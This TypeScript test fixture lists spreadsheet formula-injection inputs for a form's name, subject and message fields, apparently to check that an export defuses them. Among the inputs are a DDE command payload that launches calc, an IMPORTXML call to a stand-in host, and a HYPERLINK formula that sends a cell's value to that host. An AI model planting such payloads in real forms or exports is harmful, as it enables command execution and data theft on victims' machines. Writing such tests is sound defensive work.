import type { AcceptedRow } from './test-case.ts';

/** Beginnings that some spreadsheet takes for a formula, and whether the first blanks are trimmed away. */
const beginnings: [what: string, text: string, kept?: string][] = [
  ['an equals sign', '=1+1'],
  ['a plus sign', '+1+1'],
  ['a minus sign', '-1+1'],
  ['an at sign', '@SUM(1,1)'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus sign', '＋1+1'],
  ['a full-width minus sign', '－1+1'],
  ['a full-width at sign', '＠SUM(1,1)'],
  ['a tab before an equals sign', '\t=1+1', '=1+1'],
  ['a carriage return before an equals sign', '\r=1+1', '=1+1'],
  ['a line end before a plus sign', '\n+1+1', '+1+1'],
  ['a blank before an equals sign', ' =1+1', '=1+1'],
  ['a no-break blank before an equals sign', '\u00a0=1+1', '=1+1'],
  ['a zero-width blank before an equals sign', '\u200b=1+1'],
  ['an apostrophe before an equals sign', "'=1+1"],
  ['a quote before an equals sign', '"=1+1"'],
  ['a quote and a comma before an equals sign', '",=1+1,"'],
  ['a semicolon before an equals sign', ';=1+1'],
  ['a command of the system', "=cmd|' /C calc'!A0"],
  ['a call for another page', '=IMPORTXML("http://evil.example","//a")'],
  ['a link with a concatenation', '=HYPERLINK("http://evil.example?"&A1,"x")'],
  ['a minus sign with a command', "-2+3+cmd|' /C calc'!A0"],
  ['a table pipe', '|=1+1'],
  ['an array formula', '{=1+1}'],
  ['a minus sign of mathematics', '\u22121+1'],
];

/** Texts that a spreadsheet could run. All are taken and kept; making them harmless is the export's part. */
export const formulas: AcceptedRow[] = (['name', 'subject', 'message'] as const).flatMap((field) =>
  beginnings.map(
    ([what, text, kept = text]): AcceptedRow => [`${what} at the start of the ${field}`, field, text, kept],
  ),
);
